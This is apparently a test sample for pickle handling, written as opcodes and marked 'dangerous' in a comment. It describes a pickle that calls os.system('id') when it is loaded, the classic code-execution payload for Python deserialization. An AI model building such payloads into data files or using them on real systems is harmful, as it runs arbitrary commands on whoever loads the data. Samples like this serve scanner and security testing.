# dangerous: pickle.py unpacks any sequence
PROTO 2
GLOBAL os system
EMPTY_LIST
BINUNICODE "id"
APPEND
REDUCE
STOP
